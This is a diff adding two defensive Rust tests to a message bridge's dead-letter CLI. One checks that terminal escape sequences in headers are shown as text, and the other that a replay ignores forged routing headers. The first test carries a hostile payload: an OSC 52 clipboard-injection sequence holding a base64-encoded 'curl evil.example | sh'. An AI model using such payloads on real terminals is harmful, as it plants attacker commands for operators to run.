@@ -578,3 +578,112 @@ async fn show_prints_headers_as_text_and_a_closed_pipe_ends_each_command_quietly
     bridge.stop().await;
     app.cleanup().await;
 }
+
+/// Whoever may publish replies picks a dead letter's `message_id` and the
+/// headers the bridge keeps from the reply; the operator reads them in a
+/// terminal. Escape sequences in them must arrive as text: written raw they
+/// can rewrite what the terminal shows, retitle it, or (OSC 52) fill the
+/// operator's clipboard with a command of the attacker's choosing.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn what_a_publisher_put_in_a_dead_letter_reaches_the_terminal_as_text() {
+    let app = spawn_app(TestOptions::default()).await;
+    let bridge = start_bridge(&app).await;
+    let mut crm = crm(&app).await;
+    let hostile = "\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}\u{1b}[2J\u{9b}31m";
+    let mut headers = FieldTable::default();
+    for name in [
+        "x-xbridge-problem-type",
+        "x-xbridge-original-routing-key",
+        "x-xbridge-dropped-headers",
+        "x-crm-note",
+    ] {
+        headers.insert(name.into(), AMQPValue::LongString(hostile.into()));
+    }
+    // No text: the bridge dead-letters it as invalid_message, keeping these.
+    let body = serde_json::json!({"message_id": format!("m{hostile}"), "recipient_id": "1"});
+    crm.publish_with_properties(
+        "acme",
+        &serde_json::to_vec(&body).unwrap(),
+        BasicProperties::default()
+            .with_content_type("application/json".into())
+            .with_headers(headers),
+    )
+    .await;
+    let failed = crm.next_event().await;
+    assert_eq!(failed.body["type"], "message.failed");
+
+    let id = format!("m{hostile}");
+    for args in [
+        vec!["list"],
+        vec!["show", id.as_str()],
+        vec!["replay", "--dry-run"],
+        vec!["purge", "--dry-run"],
+    ] {
+        let output = dlq_ok(&app, &args).await;
+        let raw: Vec<char> = output
+            .chars()
+            .filter(|c| c.is_control() && *c != '\n')
+            .collect();
+        assert!(raw.is_empty(), "dlq {args:?} wrote {raw:?}:\n{output}");
+    }
+    assert!(dlq_ok(&app, &["list"]).await.contains("m\\u{1b}]52;c;"));
+
+    bridge.stop().await;
+    app.cleanup().await;
+}
+
+/// The `x-xbridge-*` headers a reply arrives with are the publisher's to
+/// choose. Kept on the dead letter, `x-xbridge-original-routing-key` sent the
+/// operator's replay of a reply for alpha to beta, out of beta's account: a
+/// publisher allowed only alpha's routing key (RabbitMQ topic permissions)
+/// reached another account through the replay.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_replay_goes_where_the_reply_was_published_whatever_its_headers_say() {
+    let app = spawn_app(TestOptions {
+        channels: vec!["alpha".into(), "beta".into()],
+        ..TestOptions::default()
+    })
+    .await;
+    let alpha = app.user_id("alpha");
+    app.simulator.set_fault(
+        &alpha,
+        Fault::RecipientRefuses {
+            participant_id: "111".into(),
+        },
+    );
+    let bridge = start_bridge(&app).await;
+    let mut crm = crm(&app).await;
+    let mut headers = FieldTable::default();
+    for (name, value) in [
+        ("x-xbridge-original-routing-key", "beta"),
+        ("x-xbridge-original-exchange", "elsewhere"),
+    ] {
+        headers.insert(name.into(), AMQPValue::LongString(value.into()));
+    }
+    crm.publish_with_properties(
+        "alpha",
+        &serde_json::to_vec(&reply("r-1", "111")).unwrap(),
+        BasicProperties::default()
+            .with_content_type("application/json".into())
+            .with_headers(headers),
+    )
+    .await;
+    let failed = crm.next_event().await;
+    assert_eq!(
+        failed.body["reason"], "recipient_refuses",
+        "{}",
+        failed.body
+    );
+
+    app.simulator.clear_faults(&alpha);
+    let shown = dlq_ok(&app, &["show", "r-1"]).await;
+    assert!(shown.contains("original key:      alpha\n"), "{shown}");
+    dlq_ok(&app, &["replay"]).await;
+    let sent = crm.next_event().await;
+    assert_eq!(sent.routing_key, "alpha.message.sent", "{}", sent.body);
+    assert_eq!(app.wait_for_dms("alpha", 1).await.len(), 1);
+    assert!(app.simulator.sent_dms_for(&app.user_id("beta")).is_empty());
+
+    bridge.stop().await;
+    app.cleanup().await;
+}
